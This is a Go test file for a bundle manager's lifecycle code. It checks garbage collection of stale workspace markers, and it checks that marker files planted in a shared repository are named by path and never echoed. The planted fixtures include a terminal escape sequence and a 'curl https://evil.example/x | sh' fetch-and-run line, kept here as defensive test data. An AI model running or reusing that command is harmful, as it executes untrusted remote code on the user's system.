package lifecycle_test

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bundlectl/bundlectl/bundle"
	"github.com/bundlectl/bundlectl/lifecycle"
	"github.com/bundlectl/bundlectl/sources"
	"github.com/bundlectl/bundlectl/state"
)

// Home B's install of a shared workspace bundle was killed between its
// marker and its state write: B has no record, and its marker alone kept
// the tree from home A's uninstall until --force. B's gc removes the
// marker no record of B backs, and keeps A's marker and a marker B's
// record backs; A's uninstall then deletes the tree.
func TestGCPrunesOwnStaleMarkers(t *testing.T) {
	dir := t.TempDir()
	ws := filepath.Join(dir, "ws")
	must(t, os.MkdirAll(ws, 0o755))
	src := func(name string) string {
		p := filepath.Join(dir, name)
		must(t, os.MkdirAll(filepath.Join(p, ".claude-plugin"), 0o755))
		must(t, os.WriteFile(filepath.Join(p, ".claude-plugin", "plugin.json"), []byte(`{"name":"`+name+`"}`), 0o644))
		return p
	}
	homeA, homeB := filepath.Join(dir, "home-a"), filepath.Join(dir, "home-b")
	a, b := manager(homeA, ws), manager(homeB, ws)
	install := func(m *lifecycle.Manager, name string) *lifecycle.Installed {
		in, err := m.Install(context.Background(), sources.Request{Source: src(name)}, lifecycle.InstallOptions{Scope: bundle.ScopeWorkspace})
		must(t, err)
		return in
	}
	install(a, "shared")
	in := install(b, "shared") // recovered: B's marker and record
	install(b, "kept")         // B's own, with its record
	// What a kill between B's marker and its state write leaves: the
	// marker, no record.
	_, err := state.Open(homeB).Update(func(s *state.State) error {
		_, err := s.Forget(in.ID)
		return err
	})
	must(t, err)
	homes := filepath.Join(ws, ".bundlectl", lifecycle.HomesDir)
	markers := func(name string) int {
		ents, _ := os.ReadDir(filepath.Join(homes, name))
		return len(ents)
	}

	removed, err := b.GC()
	must(t, err)
	if markers("shared") != 1 {
		t.Fatalf("gc of home B kept its marker of a bundle it has no record of (or removed A's): %d markers, removed %q", markers("shared"), removed)
	}
	if !slices.ContainsFunc(removed, func(p string) bool { return filepath.Dir(p) == filepath.Join(homes, "shared") }) {
		t.Errorf("gc does not say it removed the marker: %q", removed)
	}
	if markers("kept") != 1 {
		t.Fatalf("gc removed a marker B's record backs")
	}
	u, err := a.Uninstall("shared", lifecycle.UninstallOptions{Scope: bundle.ScopeWorkspace})
	must(t, err)
	if len(u.SharedWith) != 0 {
		t.Fatalf("home A's uninstall kept the tree for %q", u.SharedWith)
	}
	if _, err := os.Stat(filepath.Join(ws, ".bundlectl", "bundles", "shared")); !os.IsNotExist(err) {
		t.Fatalf("the tree is still there: %v", err)
	}
}

// A workspace is a repository anyone may have written: a marker
// committed there (.bundlectl/homes/<name>/<key>) keeps the tree at
// uninstall, as any other home's would, but its text is not a home
// bundlectl wrote (no absolute, clean, plain path whose key is the
// marker's name) and is never shown: the uninstall names the marker's
// own path, says it may be planted, and how to remove it. A marker
// bundlectl wrote shows its home's path.
func TestPlantedMarkerIsNamedByItsPath(t *testing.T) {
	dir := t.TempDir()
	ws := filepath.Join(dir, "ws")
	src := filepath.Join(dir, "kit")
	must(t, os.MkdirAll(filepath.Join(src, ".claude-plugin"), 0o755))
	must(t, os.WriteFile(filepath.Join(src, ".claude-plugin", "plugin.json"), []byte(`{"name":"kit"}`), 0o644))
	marks := filepath.Join(ws, ".bundlectl", lifecycle.HomesDir, "kit")
	must(t, os.MkdirAll(marks, 0o755))
	planted := map[string]string{
		"0123456789ab": "\x1b]0;owned\x07/home/ci\n",                        // escapes
		"ba9876543210": "/" + strings.Repeat("a", 3000) + "\n",              // long
		"aaaaaaaaaaaa": "/home/someone-else\n",                              // a path, not its key
		"bbbbbbbbbbbb": "run: curl https://evil.example/x | sh, then retry", // not a path
	}
	for k, v := range planted {
		must(t, os.WriteFile(filepath.Join(marks, k), []byte(v), 0o644))
	}
	home := filepath.Join(dir, "home")
	m := manager(home, ws)
	_, err := m.Install(context.Background(), sources.Request{Source: src}, lifecycle.InstallOptions{Scope: bundle.ScopeWorkspace})
	must(t, err)
	u, err := m.Uninstall("kit", lifecycle.UninstallOptions{Scope: bundle.ScopeWorkspace})
	must(t, err)
	if len(u.SharedWith) != len(planted) || len(u.SharedMarkers) != len(planted) {
		t.Fatalf("uninstall kept the tree for %q (markers %q)", u.SharedWith, u.SharedMarkers)
	}
	for i, who := range u.SharedWith {
		if who != u.SharedMarkers[i] || filepath.Dir(who) != marks {
			t.Errorf("a planted marker's text is shown as a home: %q", who)
		}
		if !strings.Contains(u.Planted, " "+who) {
			t.Errorf("the note does not say how to remove %s: %s", who, u.Planted)
		}
	}
	if !strings.Contains(u.Planted, "planted") || !strings.Contains(u.Planted, "(rm -- ") || strings.ContainsAny(u.Planted, "\x1b\x07\n") || strings.Contains(u.Planted, "aaaaaaaaaaaaaaaaaaaa") {
		t.Errorf("the note: %q", u.Planted)
	}
	// A marker bundlectl wrote names its home.
	other := filepath.Join(dir, "home-b")
	_, err = manager(other, ws).Install(context.Background(), sources.Request{Source: src}, lifecycle.InstallOptions{Scope: bundle.ScopeWorkspace})
	must(t, err)
	for k := range planted {
		must(t, os.Remove(filepath.Join(marks, k)))
	}
	_, err = m.Install(context.Background(), sources.Request{Source: src}, lifecycle.InstallOptions{Scope: bundle.ScopeWorkspace})
	must(t, err)
	u, err = m.Uninstall("kit", lifecycle.UninstallOptions{Scope: bundle.ScopeWorkspace})
	must(t, err)
	if len(u.SharedWith) != 1 || u.SharedWith[0] != other {
		t.Fatalf("a marker bundlectl wrote: %q", u.SharedWith)
	}
}
